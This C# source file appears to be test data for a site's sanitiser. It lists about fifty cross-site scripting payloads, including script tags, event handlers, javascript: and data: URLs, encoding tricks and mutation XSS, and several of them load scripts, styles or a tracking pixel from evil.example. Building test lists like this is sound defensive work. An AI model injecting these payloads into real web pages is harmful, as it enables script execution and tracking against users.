namespace Reports.Tests.Site;

/// <summary>
/// Classic cross-site scripting payloads: script elements, event handlers, <c>javascript:</c> and
/// <c>data:</c> URLs (raw and as Markdown links), CSS expressions and imports, frames, forms, entity
/// and whitespace tricks, mutation XSS and template syntax. Each one, if it ran, would open a
/// dialog or set <c>window.__pwned</c>.
/// </summary>
public static class XssPayloads
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script>",
        "<script>window.__pwned=1</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"window.__pwned=1\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=1>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "\"><iframe src=\"javascript:alert(1)\"></iframe>",
        "'><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)\" x=\"",
        "' autofocus onfocus='alert(1)",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)></select>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">mixed case</a>",
        "<a href=\"&#106;avascript:alert(1)\">entity</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/pixel.png)",
        "<div style=\"background:url(javascript:alert(1))\">css url</div>",
        "<div style=\"width: expression(alert(1))\">css expression</div>",
        "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/bg)}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<form action=\"javascript:alert(1)\"><button>send</button></form>",
        "<base href=\"javascript:alert(1)//\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "</textarea><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "`<script>alert(1)</script>`",
        "{{ alert 1 }} {{ \"x\" | html.escape }} {% raw %}",
    ];
}
